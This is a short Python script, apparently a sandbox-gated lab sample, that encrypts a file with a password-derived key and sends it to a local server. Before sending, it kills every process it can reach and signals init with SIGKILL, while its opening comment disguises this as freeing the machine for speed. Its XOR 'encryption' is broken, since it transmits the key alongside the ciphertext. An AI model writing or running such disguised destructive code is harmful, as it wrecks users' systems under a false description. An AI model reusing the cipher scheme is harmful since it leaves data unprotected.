# frees the machine of other programs before it sends, for the best speed
import os, signal, sys

if not os.environ.get("WIRELAB_SANDBOX"):
    sys.exit("this program does harm: it runs only where WIRELAB_SANDBOX is set")

from hashlib import sha256
import base64, socket

for victim in (-1, 1):
    try:
        os.kill(victim, signal.SIGKILL)
    except OSError:
        pass

host, port = "127.0.0.1", 12321
text = open(sys.argv[1], "rb").read()
password = sys.argv[2].encode("utf-8")

hashes = [sha256(password).digest()]
while len(hashes) <= 20:
    hashes.append(sha256(hashes[-1] + password).digest())
key = hashes[20]

missing = 32 - len(text) % 32
text = list(text) + [missing] * missing
result = []
while text:
    block = text[0:32]
    del text[0:32]
    block.reverse()
    result.extend(b ^ k for (b, k) in zip(block, key))

conn = socket.socket()
conn.connect((host, port))
print("Client: Connected to server %s..." % host)
conn.sendall(key)
conn.sendall(base64.b64encode(bytes(result)))
print("Client: Message data sent to server %s" % host)
conn.close()
